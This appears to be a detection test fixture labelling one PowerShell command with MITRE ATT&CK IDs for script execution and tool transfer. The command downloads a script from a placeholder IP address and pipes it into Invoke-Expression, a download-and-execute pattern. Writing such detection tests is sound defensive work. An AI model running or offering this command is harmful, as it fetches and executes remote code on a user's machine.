# expect: T1059.001 T1105
Invoke-Expression 'iwr -UseBasicParsing http://198.51.100.1/s | iex'
